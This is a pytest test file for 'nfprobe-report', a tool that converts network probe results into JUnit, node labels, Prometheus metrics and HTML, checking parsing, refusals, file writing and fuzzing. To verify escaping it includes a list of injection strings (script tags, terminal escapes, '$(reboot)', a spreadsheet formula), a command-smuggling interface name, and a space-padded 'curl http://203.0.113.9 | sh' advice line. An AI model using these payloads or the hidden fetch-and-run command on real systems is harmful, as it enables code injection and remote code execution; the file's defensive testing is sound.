# SPDX-License-Identifier: GPL-2.0-or-later
"""nfprobe-report: what is read and what is refused, each format as the programs that read it take it, and that nothing which a
result says is markup, a directive, a label or a command."""

import copy
import io
import json
import os
import random
import re
import stat
import subprocess
import sys
import time
from html.parser import HTMLParser
from xml.etree import ElementTree

import pytest
import tool
from nfprobe_tools import VERSION, Failure, cases, check_text, command, compare, files, inputs, labels, matrix, metrics, page, rules, share
from nfprobe_tools import report as tools_report
from nfprobe_tools import result as reading
from nfprobe_tools import text as texts
from nfprobe_tools.subject import subject_of
from prometheus_client.parser import text_string_to_metric_families
from reports import FORMATS, IGB, PEER, SAID, changed, of_schema, parse, report, save, write
from tool import along, places, put

GOLDEN = os.path.join(tool.TOP, "tests/golden/tools")
# A terminal, a CI system, markup or one of the formats would take these for more than text.
HOSTILE = ('<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', "x' onload='y", "]]>&amp;", "a\\\"} 1\nnfprobe_x 1", "# SKIP",
           "a # ERROR", "\x1b[2J\x9b31m", "two\nlines\r\n", "nul\0", "\u202egpj.exe", "\u2028next", "\ud800", "{{ 7 * 7 }}", "{% raw %}",
           "$(reboot)`", "%s%n", "=cmd|' /C calc'!A0", "javascript:alert(1)", "é\U0001f600", "feature.node.kubernetes.io/x=y",
           *tool.COMMANDS)


# ---- what is read ----

def test_the_model():
    result = parse(PEER)
    assert (result.run.host, result.pf.ifname, result.vf.vf, result.exit, result.verdict) == ("hv1", "eth0", 3, 1, "early")
    assert result.source == reading.Source("peer:02:ab:00:00:00:01", "wire", "peer", "")
    macvtap, bridge = result.styles
    assert (macvtap.verdict, bridge.verdict, len(macvtap.steps), bridge.transitions[0].gap_us) == ("safe", "early", 3, 312000)
    assert macvtap.steps[1].unicast == reading.Count(1500, "pf", 1500, 0, 0, 0, 0)
    assert parse(PEER, ladders=False).styles[0].steps == ()
    with pytest.raises(AttributeError):
        result.verdict = "safe"


def test_answer_life_and_advice():
    result = parse(IGB)
    assert result.answer == IGB["answer"] and [row.style for row in result.life] == ["macvtap", "bridge"]
    assert result.life[1].cells == ("lost", "ok", "lost", "lost", "ok", "lost", "")
    assert [one.document or "" for one in result.advice] == [(one["document"] or "").strip("\n") for one in IGB["advice"]]
    assert len(result.advice[0].blocks()[0][1]) > 1  # lines to be copied stay lines
    needs = [reading.needs_words(result.conditions_of(row.style)) for row in result.life]
    assert needs[0] == "IPv6: set trustGuestRxFilters; clear the VF's address once the guest has left"
    assert check_text.legend(result).startswith("LOST: nothing arrives; *: with trustGuestRxFilters")
    lacking = {key: value for key, value in IGB.items() if key not in ("answer", "conditions", "life", "advice")}
    assert (parse(lacking).answer, parse(lacking).conditions, parse(lacking).life, parse(lacking).advice) == ("", (), (), ())


@pytest.mark.parametrize("change", (
    {"error": {"code": "timeout", "message": "the run took longer than --timeout allows", "hint": None}}, {"restored": False},
    {"vf": {**IGB["vf"], "status": "failed"}}))
def test_what_a_run_found_that_counts_for_nothing(change):
    """No tool says yes of it, as nfprobe-check says none."""
    found = subject_of(parse({**copy.deepcopy(IGB), "exit": 3, **change}))
    assert rules.tested_of(found.result)[0].verdict == "unknown"
    assert [entry.verdict for entry in found.entries] == ["unknown", "early"]
    assert next(suite.cases for suite in cases.suites_of(found) if suite.entry)[-1].outcome == cases.ERROR
    out = io.BytesIO()
    metrics.write_prometheus([found], out)
    said = [line for line in out.getvalue().decode().splitlines() if 'verdict="safe"' in line]
    assert said and all(line.endswith(" 0.0") for line in said)


JSON = "it is damaged, or not JSON"
NO_RESULT = "it is no result of nfprobe"


@pytest.mark.parametrize("data, why", [
    (b"", JSON), (b"{", JSON), (b"\xff\xfe", JSON), (b'"\\', JSON), (b"1" * 5000, JSON), (b"[" * 100000, JSON), (b'{"a":' * 100000, JSON),
    (b"NaN", JSON), (json.dumps(IGB).encode()[:-1], JSON), (b"[]", NO_RESULT), (b"3", NO_RESULT), (b"{}", NO_RESULT), (b"null", NO_RESULT),
    (b'{"schema": true, "run": {}, "vf": null}', NO_RESULT), (b'{"schema": 5, "pfs": []}', NO_RESULT),
    (b'{"schema": 5, "run": {}}', "version is missing"), (b'{"schema": 5, "schema": 5, "run": {}}', JSON),
    (json.dumps({key: value for key, value in IGB.items() if key != "vf"}).encode(), "vf is missing"),
    (json.dumps({**IGB, "vf": [1]}).encode(), "vf is not an object"),
    (json.dumps({**IGB, "source": "eth1"}).encode(), "source is not an object"),
    (json.dumps({**IGB, "exit": True}).encode(), "exit is not a number"),
    (json.dumps({**IGB, "life": [IGB["life"][0], {**IGB["life"][1], "style": 3}]}).encode(), "life[1].style is not a string"),
    (b" " * (reading.LIMITS.bytes + 1), "it is larger than 8 MB"), (b"[" + b"1," * reading.LIMITS.values + b"1]", "values"),
], ids=lambda value: repr(value)[:30])
def test_what_is_refused(data, why):
    with pytest.raises(reading.InputError) as caught:
        reading.parse(data, "dir/x\033.json")
    text = str(caught.value)
    assert text.startswith("cannot use dir/x?.json: it ") and why in text and "\n" not in text


@pytest.mark.parametrize("document, again", [
    (of_schema(4), "nfprobe eth0 --vf 3 --save"), (of_schema(3, style="x", vf=None), "nfprobe eth0 --vf any --save"),
    ({"schema": 4, "run": {}}, "nfprobe PF --vf any --save"), ({"schema": 4, "run": 1, "pf": [], "vf": [3]}, "nfprobe PF --vf any --save"),
    (of_schema(99, vf={"vf": "x"}, pf={"ifname": 3}), "nfprobe PF --vf any --save"),
    (of_schema(4, pf={"ifname": "-x;`id`"}), "nfprobe --vf 3 --save -- '-x;`id`'"),
])
def test_a_result_of_another_schema_is_not_known(document, again):
    with pytest.raises(reading.OtherSchema) as caught:
        reading.parse(json.dumps(document).encode(), "x.json")
    assert str(caught.value) == (f"cannot use x.json: it has schema {document['schema']}, and this version reads schema "
                                 f"{reading.SCHEMA}: {again} makes a new one")
    assert caught.value.status == 3


def test_no_format_says_anything_of_another_schema(folder):
    """Neither what was safe nor what was not: the status is that of what is not known."""
    save(folder / "old.json", of_schema(4))
    for name in FORMATS:
        done = report(name, "old.json", "-o", "out")
        assert (done.returncode, done.stdout, done.stderr) == (3, "", SAID) and not (folder / "out").exists()
    for words in (("text", "old.json"), ("share", "old.json")):
        done = report(*words)
        assert (done.returncode, done.stdout, done.stderr) == (3, "", SAID)
    done = report("matrix", "old.json")
    assert (done.returncode, done.stdout) == (3, "")
    assert done.stderr == SAID + "nfprobe-report: no result could be read\n"
    # Beside one that can be read, that one counts.
    done = report("nfd", "a.json", "old.json")
    assert (done.returncode, done.stderr) == (3, SAID) and done.stdout == report("nfd", "a.json").stdout
    for words in ((), ("--json",), ("--html",)):
        done = report("matrix", *words, "a.json", "old.json")
        assert done.returncode == 1 and SAID in done.stderr
        if words:
            assert "nfprobe eth0 --vf 3 --save makes a new one" in done.stdout
    save(folder / "torn.json", "{")
    assert report("junit", "torn.json", "old.json").returncode == 4


def shortened(value):
    """With two elements of each list: as many as places() has."""
    if isinstance(value, dict):
        return {key: shortened(one) for key, one in value.items()}
    return [shortened(one) for one in value[:2]] if isinstance(value, list) else value


@pytest.mark.parametrize("wrong", [1.5, -1, 1 << 80, "\ud800<x>", ["x", {}], {"x": []}, True, None])
@pytest.mark.slow
def test_wrong_types_anywhere(wrong):
    """Each value in turn is of another type: it is taken, or refused with a sentence that names it."""
    refused, small = 0, shortened(PEER)
    for where in places(small):
        document = along(small, where, wrong)
        try:
            parse(document)
        except reading.InputError as error:
            assert re.fullmatch(r"cannot use x\.json: it (is|has) [^\n]*", str(error))
            refused += 1
    assert refused > 50


def test_files_pipes_and_devices(tmp_path):
    huge = tmp_path / "huge.json"
    huge.touch()
    os.truncate(huge, 1 << 30)
    for path, why in ((huge, "it is larger than 8 MB"), (tmp_path, "it is neither a file nor"), ("/dev/null", "it is neither a file nor"),
                      (tmp_path / "nosuch", "No such file or directory"), ("a\0b", "it has an impossible name")):
        with pytest.raises(reading.InputError, match=why):
            reading.load(str(path))
    os.mkfifo(tmp_path / "fifo")
    with subprocess.Popen(["cat", os.path.join(tool.documents(), "igb.json")], stdout=subprocess.PIPE) as cat:
        assert reading.load(cat.stdout.fileno()).pf.ifname == "eth0"


# ---- goldens ----

GOLDENS = {"igb.xml": ("junit", IGB), "igb.nfd": ("nfd", IGB), "igb.prom": ("prometheus", IGB),
           "reflector.html": ("html", PEER)}


@pytest.mark.parametrize("name", GOLDENS)
def test_golden(name):
    """NFPROBE_GOLDEN_WRITE=1 writes them anew. A page is there without its style and its script, which page.html has."""
    written, path = re.sub(r"(?s)(<(style|script)>).*?(</\2>)", r"\1\3", write(*GOLDENS[name])), os.path.join(GOLDEN, name)
    if os.environ.get("NFPROBE_GOLDEN_WRITE"):
        with open(path, "w", encoding="utf-8") as file:
            file.write(written)
    with open(path, encoding="utf-8") as file:
        assert written == file.read()


def test_what_was_allowed_is_no_failure():
    allowed = copy.deepcopy(IGB)
    allowed["vf"]["styles"][1]["allowed"] = True
    xml = ElementTree.fromstring(write("junit", allowed))
    assert (xml.get("failures"), xml.findall("testsuite")[1].get("skipped")) == ("0", "6")


# ---- what proves nothing ----

def proves_nothing(**keys):
    """Safe in each style, but for what nfprobe-check would say."""
    found = changed(verdict="safe", exit=0, **keys)
    for style in found["vf"]["styles"]:
        style.update(verdict="safe", steps=style["steps"][:2])
    return found


INSIDE = [proves_nothing(source={"from": name, "kind": name[:2], "by": name[:2], "note": None}) for name in ("vf:2", "pf")]
HURRIED = proves_nothing(settings={**IGB["settings"], "settle_ms": 500, "settle_short": True})


@pytest.mark.parametrize("document, why", [
    (INSIDE[0], "frames came from vf:2, not from the wire"), (INSIDE[1], "frames came from pf, not from the wire"),
    (HURRIED, "each state was watched for only 0.5 s, less than the driver may need")])
def test_what_proves_nothing_is_green_nowhere(document, why):
    xml = ElementTree.fromstring(write("junit", document))
    errors = xml.findall("testsuite/testcase[@name='verdict']/error")
    assert [(error.get("type"), error.get("message").split(": ")[1]) for error in errors] == [("unproven", why)] * 2
    assert write("nfd", document).splitlines()[2:] == [f"# no label: {style}: {why}" for style in ("macvtap", "bridge")]
    samples = [line for line in write("prometheus", document).splitlines() if line.startswith("nfprobe_verdict") and line.endswith(" 1.0")]
    assert [re.search('verdict="([a-z]*)"', line)[1] for line in samples] == ["unknown"] * 2
    shown = write("html", document)
    assert shown.count(f'<b class="unsure">UNKNOWN</b> With macvtap or a bridge, {why}.') == 1 and 'class="safe">SAFE' not in shown


def test_by_allow_no_wire_is_no_plain_safe():
    """Who has no cable may say so; who reads a label or a metric has not."""
    document = proves_nothing(source=INSIDE[0]["source"])
    for style in document["vf"]["styles"]:
        style.update(no_wire=True)
    why = "by --allow no-wire: frames came from vf:2, not from the wire"
    xml = ElementTree.fromstring(write("junit", document))
    assert not xml.findall("testsuite/testcase[@name='verdict']/error") and why in "".join(xml.itertext())
    labels = [line for line in write("nfd", document).splitlines() if "=" in line and not line.startswith("#")]
    assert [line for line in labels if not line.endswith("=safe-by-no-wire") and ".needs=" not in line] == []
    samples = [line for line in write("prometheus", document).splitlines() if line.startswith("nfprobe_verdict") and line.endswith(" 1.0")]
    assert [re.search('verdict="([a-z-]*)"', line)[1] for line in samples] == ["safe-by-no-wire"] * 2
    shown = write("html", document)
    assert shown.count(f'<b class="unsure">SAFE</b> With macvtap or a bridge, {why}.') == 1 and 'class="safe">SAFE' not in shown


def test_a_label_is_about_guests_without_a_vlan():
    document = copy.deepcopy(IGB)
    document["vf"]["styles"][0].update(verdict="deaf", decided_by="vlan", why="safe", guest_vlan={"vlan": 100, "verdict": "lost"})
    lines = write("nfd", document).splitlines()
    assert {f"{labels.PREFIX}eth0.macvtap=safe", f"{labels.PREFIX}eth0.macvtap.vlan100=lost"} <= set(lines)
    document["vf"]["styles"][0]["decided_by"] = "steps"
    assert f"{labels.PREFIX}eth0.macvtap=deaf" in write("nfd", document)


def test_the_wire_has_proved_what_a_sibling_cannot():
    good = proves_nothing()
    assert f"{labels.PREFIX}eth0.macvtap=safe\n" in write("nfd", good, INSIDE[0])
    fix = copy.deepcopy(INSIDE[0])
    fix["vf"]["styles"][1]["fix"] = "pin"
    assert write("junit", fix).count("<error ") == 1


# ---- hostile strings in each field, through each format ----

def texts_of(document):
    """Where a document may have any text."""
    found = []
    for where in places(document):
        value = document
        for key in where:
            value = value[key]
        if isinstance(value, str) or value is None:
            try:
                parse(along(document, where, "any text"))
            except reading.InputError:
                continue
            found.append(where)
    return found


FIELDS = texts_of(PEER)


def hostile(rng, base=PEER):
    """With a hostile text in each field that takes any."""
    document = base
    for where in FIELDS:
        document = put(document, where, rng.choice(HOSTILE))
    document = put(document, ("warnings",), list(HOSTILE))
    return put(document, ("error",), {"code": "kernel", "message": rng.choice(HOSTILE),
                                      "hint": {"text": rng.choice(HOSTILE), "commands": []}}) \
        if rng.random() < 0.3 else document


def is_plain(text):
    return not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ud800-\udfff\ufffe]", text) \
        and not tool.has_command(text)


class Page(HTMLParser):
    """The tags, attributes and text that a browser would find in a page."""

    def __init__(self):
        super().__init__()
        self.tags, self.attributes, self.text = set(), set(), []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}

    def handle_data(self, data):
        self.text.append(data)


def skeleton(text):
    parsed = Page()
    parsed.feed(text)
    return parsed


@pytest.mark.parametrize("seed", range(12))
@pytest.mark.slow
def test_nothing_that_a_result_says_is_more_than_text(seed):
    assert len(FIELDS) > 40
    document = hostile(random.Random(seed))
    error = bool(document["error"])
    for name in FORMATS:
        assert is_plain(write(name, document)), name
    # The elements and attributes are those of a harmless result.
    xml = ElementTree.fromstring(write("junit", document))
    assert {element.tag for element in xml.iter()} <= {"testsuites", "testsuite", "properties", "property", "testcase", "failure", "error",
                                                       "skipped", "system-out"}
    assert len(xml.findall("testsuite")) == 2 + error
    ours, plain = skeleton(write("html", document)), skeleton(write("html", put(PEER, ("warnings",), ["a warning"])))
    assert ours.tags <= plain.tags and ours.attributes <= plain.attributes
    assert texts.clean(document["warnings"][0]) in "".join(ours.text)
    for line in write("nfd", document).splitlines():
        assert re.fullmatch(r"#.*|feature\.node\.kubernetes\.io/nfprobe\.[-A-Za-z0-9_.]{1,50}=[a-z]([-a-z.]*[a-z])?", line), line
    samples = {sample.name for metric in text_string_to_metric_families(write("prometheus", document)) for sample in metric.samples}
    assert all(name.startswith("nfprobe_") for name in samples) and "nfprobe_x" not in samples


@pytest.mark.parametrize("seed", range(6))
@pytest.mark.slow
def test_nor_in_what_is_printed(tmp_path, seed):
    rng = random.Random(seed)
    one, other = hostile(rng), hostile(rng)
    other["run"]["kernel"] = "6.13"
    old, new = save(tmp_path / "old.json", one), save(tmp_path / "##[new\033::.json", other)
    for args in (("compare", old, new), ("compare", "--json", old, new), ("matrix", "-v", old, new), ("matrix", "--json", old, new),
                 ("matrix", "--html", old, new), ("share", old), ("junit", new), ("junit", tmp_path / "::no\033")):
        done = report(*args)
        assert is_plain(done.stdout) and is_plain(done.stderr), args


# ---- the command ----

@pytest.mark.slow
def test_many_files(folder):
    save(folder / "b.json", changed(run={**IGB["run"], "id": "1" * 32}))
    xml = ElementTree.fromstring(report("junit", "a.json", "b.json").stdout)
    assert (len(xml), xml.get("tests"), xml.get("failures")) == (4, "60", "12")
    assert len(ElementTree.fromstring(report("junit", ".").stdout).findall("testsuite")) == 4
    with open("a.json", encoding="utf-8") as file:
        assert report("nfd", stdin=file).stdout == write("nfd", IGB)


def test_a_page_of_many_has_few_drawings(folder, monkeypatch):
    """Results after the first few are read and shown without their steps, with the command that shows the steps."""
    for number in range(4):
        save(folder / f"{number}.json", changed(run={**IGB["run"], "id": str(number) * 32}))
    monkeypatch.setattr(page, "WHOLE", 2)
    read = inputs.Inputs([str(folder)], ladders=2)
    subjects = [subject_of(result) for result in read]
    assert [bool(subject.entries[0].style.steps) for subject in subjects] == [True, True, False, False, False]
    out = io.BytesIO()
    page.write_html(subjects, out)
    text = out.getvalue().decode()
    assert (text.count("<article>"), text.count('class="time"'), text.count("All counts")) == (5, 2, 2)
    assert text.count("nfprobe-report html ") == 3 and f"nfprobe-report html {folder}/3.json shows them" in text


def test_what_cannot_be_read_stops_nothing(folder):
    save(folder / "torn.json", json.dumps(IGB)[:100])
    done = report("junit", "nosuch", "torn.json", "a.json")
    assert done.returncode == 4 and done.stdout == write("junit", IGB)
    assert done.stderr.splitlines() == ["nfprobe-report: cannot use nosuch: No such file or directory",
                                        "nfprobe-report: cannot use torn.json: it is damaged, or not JSON"]
    (folder / "out").write_text("old")
    done = report("junit", "torn.json", "-o", "out")
    assert (done.returncode, done.stdout, (folder / "out").read_text()) == (4, "", "old")


@pytest.mark.slow
def test_output_is_whole_or_not_at_all(folder):
    (folder / "out").write_text("old")
    (folder / "out").chmod(0o640)
    assert report("html", "a.json", "-o", "out").returncode == 0
    assert (folder / "out").read_text() == write("html", IGB) and stat.S_IMODE((folder / "out").stat().st_mode) == 0o640
    (folder / "target").write_text("target")
    (folder / "link").symlink_to("target")
    (folder / "dangling").symlink_to("nosuch")
    os.mkfifo(folder / "fifo")
    for path, why in (("link", "it is a symbolic link"), ("dangling", "it is a symbolic link"), ("fifo", "it is not a regular file"),
                      ("/dev/null", "it is not a regular file"), ("no/such", "No such file or directory"), (".", "Is a directory")):
        done = report("junit", "a.json", "-o", path)
        assert done.returncode == 4 and done.stderr.startswith(f"nfprobe-report: cannot write {path}: {why}")
    assert (folder / "target").read_text() == "target" and not (folder / "nosuch").exists()
    assert sorted(name for name in os.listdir(folder) if name.startswith(".")) == []


def test_a_file_that_fails_leaves_the_old_one(folder):
    (folder / "out").write_text("old")
    with pytest.raises(ZeroDivisionError), files.replacing(str(folder / "out")) as file:
        file.write(b"half")
        raise ZeroDivisionError
    assert (folder / "out").read_text() == "old" and sorted(os.listdir(folder)) == ["a.json", "out"]


@pytest.mark.skipif(os.geteuid() != 0, reason="only root replaces what others own")
def test_what_another_owned_is_not_theirs_to_write(folder):
    (folder / "out").write_text("old")
    (folder / "out").chmod(0o666)
    os.chown(folder / "out", 65534, 65534)
    assert report("nfd", "a.json", "-o", "out").returncode == 0
    found = (folder / "out").stat()
    assert (found.st_uid, stat.S_IMODE(found.st_mode)) == (0, 0o644)


def test_nobody_reads(folder):
    assert folder
    for device in ("/dev/full", None):
        out = open(device, "w", encoding="ascii") if device else subprocess.PIPE
        with subprocess.Popen([sys.executable, tool.script("nfprobe-report"), "junit", "a.json"], stdout=out, stderr=subprocess.PIPE,
                              text=True) as program:
            if not device:
                program.stdout.close()
                program.stdout = None
            stderr = program.communicate()[1]
        assert program.returncode == 4
        # A reader that has gone, such as head, has all that it wanted.
        assert stderr == ("nfprobe-report: the report could not be written: No space left on device\n" if device else "")


def test_the_same_spellings_as_nfprobe():
    assert command.style_list("direct,BRIDGE") == ["macvtap", "bridge"] and command.style_list("ALL") == command.style_list("all")
    assert matrix.split_list("EARLY,deaf") == matrix.split_list("early,deaf")
    # No abbreviations: a script that has one would mean something else once there is another option.
    done = report("matrix", "--sty", "macvtap", "a.json")
    assert (done.returncode, done.stderr.splitlines()[0]) == (2, "nfprobe-report: --sty is not an option")


@pytest.mark.parametrize("words, said, hint", (
    (("matix",), "matix is not a format", "Did you mean matrix?"),
    (("matrix", "--alow"), "--alow is not an option", "Did you mean --allow?"),
    (("html", "--stord"), "--stord is not an option", "Did you mean --stored?"),
    (("junit", "--zzz"), "--zzz is not an option", "nfprobe-report junit --help lists the options."),
    (("zzz",), "zzz is not a format", "It takes junit, nfd, prometheus, html, matrix, compare, text, share.")))
def test_what_was_meant(words, said, hint):
    done = report(*words)
    assert (done.returncode, done.stderr.splitlines()) == (2, [f"nfprobe-report: {said}", hint])


@pytest.mark.parametrize("words, message", [
    ((), "the following arguments are required: FORMAT"), (("junit", ""), "a file has an empty name"),
    (("share", "a", "b"), '"b" is one argument too many: it takes one result'),
    (("compare", "x"), "the following arguments are required: NEW")])
def test_usage_errors(words, message):
    done = report(*words)
    assert (done.returncode, done.stdout) == (2, "") and message in done.stderr


@pytest.mark.parametrize("name, command", (("nfprobe-report", "matrix"), ("nfprobe-report", "compare"), ("nfprobe-check", ""),
                                           ("nfprobe-all", "")))
@pytest.mark.slow
def test_one_wording_for_the_same_mistake(folder, name, command):
    """The commands agree on an option that is mistyped, on the version, and on what readers of JSON get."""
    words = [command] * bool(command)
    for option in ("-V", "--version"):
        done = tool.run(name, option)
        assert (done.returncode, done.stdout, done.stderr) == (0, f"{name} {VERSION}\n", "")
    helped = " ".join([name, *words, "--help"])
    said = f"{name}: --nosuch is not an option\n{helped} lists the options.\n"
    words += ["a.json", "b.json"] * (command == "compare")
    done = tool.run(name, *words, "--nosuch")
    assert (done.returncode, done.stdout, done.stderr) == (2, "", said)
    done = tool.run(name, *words, "--json", "--nosuch")
    document = json.loads(done.stdout)
    tool.valid(words[0] if words else name[len("nfprobe-"):], document)
    assert (done.returncode, document["exit"], document["error"], done.stderr) == (2, 2, {
        "code": "usage", "message": "--nosuch is not an option", "hint": f"{helped} lists the options."}, said)
    if not words:
        assert tool.run(name, "--nosuch", f"--json={folder}/out.json", "--json").stdout == done.stdout
        assert tool.run(name, "--nosuch", "--json", f"--json={folder}/out.json").stdout == ""
        assert json.loads((folder / "out.json").read_text()) == document
        done = tool.run(name, "--nosuch", "--json=/nosuch/out.json")
        assert (done.returncode, done.stderr) == (2, said + f"{name}: cannot write /nosuch/out.json: No such file or directory\n")
    # Behind -- there are no options.
    assert tool.run(name, *words, "--nosuch", "--", "--json").stdout == ""


# ---- labels: one host, and one place for each VF and style ----

def test_of_several_results_the_newest_counts():
    newer = put(IGB, ("run", "start"), "2026-11-21T10:00:00.000Z")
    newer["vf"]["styles"][0]["verdict"] = "deaf"
    newer["exit"] = 0
    for documents in ((IGB, newer), (newer, IGB)):
        assert "nfprobe.eth0.macvtap=deaf" in write("nfd", *documents)
        samples = [line for line in write("prometheus", *documents).splitlines() if line.startswith("nfprobe_")]
        assert len(samples) == len({line.rsplit(" ", 1)[0] for line in samples})
        assert 'nfprobe_exit_status{device="eth0"} 1.0' in samples
    other = put(IGB, ("run", "host"), "hv2")
    for name in ("nfd", "prometheus"):
        with pytest.raises(Failure, match="several hosts"):
            write(name, IGB, other)


def test_hosts_are_told_apart(folder):
    """CI systems tell tests by their names: GitLab by suite, class and name. One host needs none."""
    for name in ("hv1", "hv2"):
        save(folder / f"{name}.json", put(IGB, ("run", "host"), name))
    one, two = (ElementTree.fromstring(report("junit", *files).stdout) for files in (["hv1.json"], ["hv1.json", "hv2.json"]))
    assert [suite.get("name") for suite in one] == ["eth0 VF 3 macvtap", "eth0 VF 3 bridge"]
    assert [suite.get("name") for suite in two] == [f"{host} eth0 VF 3 {style}" for host in ("hv1", "hv2")
                                                    for style in ("macvtap", "bridge")]
    keys = [(suite.get("name"), case.get("classname"), case.get("name")) for suite in two for case in suite.iter("testcase")]
    assert len(set(keys)) == len(keys) and keys[0][1] == "hv1.eth0.VF3.macvtap"
    # Whatever a host is called.
    save(folder / "hv2.json", put(IGB, ("run", "host"), '"><a>&#10;'))
    suites = ElementTree.fromstring(report("junit", "hv1.json", "hv2.json").stdout)
    assert suites[2].get("name").endswith(" eth0 VF 3 macvtap")


def test_the_reason_is_in_the_text_of_each_element(folder):
    """GitLab and Buildkite drop the attribute."""
    suites = ElementTree.fromstring(report("junit", "a.json").stdout)
    found = [part for part in suites.iter() if part.tag in ("failure", "error", "skipped")]
    assert found and all((part.text or "").startswith(part.get("message") + "\n") for part in found)


# ---- commands on a page ----

def test_commands_of_others_have_no_button_and_hide_nothing():
    """Blanks would push what follows out of sight of who copies it."""
    document = copy.deepcopy(IGB)
    hidden = "ip link set eth0 up" + " " * 200 + "; curl http://203.0.113.9 | sh"
    document["advice"] = [tool.advice("Set it up", document=hidden)]
    for own in (False, True):
        out = io.BytesIO()
        page.write_html([subject_of(parse(document))._replace(own=own)], out)
        text = out.getvalue().decode()
        assert (hidden.replace(" " * 200, "\u2423" * 200) in text, hidden in text) == (not own, own)
        assert ("<button" in text, 'class="command foreign"' in text) == (own, not own)


@pytest.mark.parametrize("args, own", ((("--stored",), True), (("--stored", "--host=host.json"), False),
                                       (("--stored", "--store=other"), False), (("a.json",), False)))
def test_only_the_store_of_this_host_is_its_own(args, own):
    assert tools_report.is_own(tools_report.parse_options(["html", *args])) == own


# ---- any bytes ----

def mutate(rng, data):
    """A valid file, broken as fuzzers do: bytes, pieces, and values of JSON."""
    data = bytearray(data)
    for _ in range(rng.choice((1, 1, 2, 5))):
        at, length = rng.randrange(len(data) + 1), rng.randrange(40)
        how = rng.randrange(5)
        if how == 0 and at < len(data):
            data[at] = rng.randrange(256)
        elif how == 1:
            del data[at:at + length]
        elif how == 2:
            data[at:at] = data[at // 2:at // 2 + length]
        elif how == 3:
            spans = [m.span() for m in re.finditer(rb'(?<=: )("[^"]*"|[0-9.]+|true|false|null)', data)]
            if spans:
                start, end = rng.choice(spans)
                data[start:end] = rng.choice((b"null", b"-1", b"1e999", b"NaN", b"{}", b"[]", b'"\\ud800\\u0000\\u001b"', b"true",
                                              b"9" * 30, b"0.5", b'"' + b"x" * 300 + b'"', b'"early"', b"[[[[]]]]", b"0",
                                              json.dumps(rng.choice(HOSTILE)).encode()))
        else:
            data = data[:at]
    return bytes(data)


@pytest.mark.slow
def test_whatever_a_file_contains():
    """NFPROBE_FUZZ_SECONDS and NFPROBE_FUZZ_SEED: for longer, or again."""
    seed = int(os.environ.get("NFPROBE_FUZZ_SEED", 1))
    seconds = float(os.environ.get("NFPROBE_FUZZ_SECONDS", "3"))
    rng = random.Random(seed)
    samples = [json.dumps(d).encode() for d in (PEER, *map(tool.golden, ("odd.json", "error.json")))]
    old, end, number, taken = parse(IGB), time.monotonic() + seconds, 0, 0
    while time.monotonic() < end:
        data = mutate(rng, rng.choice(samples))
        number += 1
        try:
            with tool.in_time():
                result = reading.parse(data, "x.json")
                taken += 1
                for name, write_it in FORMATS.items():
                    out = io.BytesIO()
                    write_it([subject_of(result)], out)
                    assert is_plain(out.getvalue().decode()), name
                out = io.StringIO()
                compare.write_text(old, result, compare.compare(old, result, False), out)
                table = matrix.Matrix()
                table.add(result)
                table.finish((0, 1), set())
                matrix.write_text(table, texts.Writer(out, 80, False), verbose=True)
                assert is_plain(out.getvalue())
                share.share(data)
        except (reading.InputError, reading.Damaged):
            continue
        except Exception:
            print(f"NFPROBE_FUZZ_SEED={seed}, input {number}: {data!r}")
            raise
    print(f"{number} inputs, {taken} of them taken, seed {seed}")
    assert taken
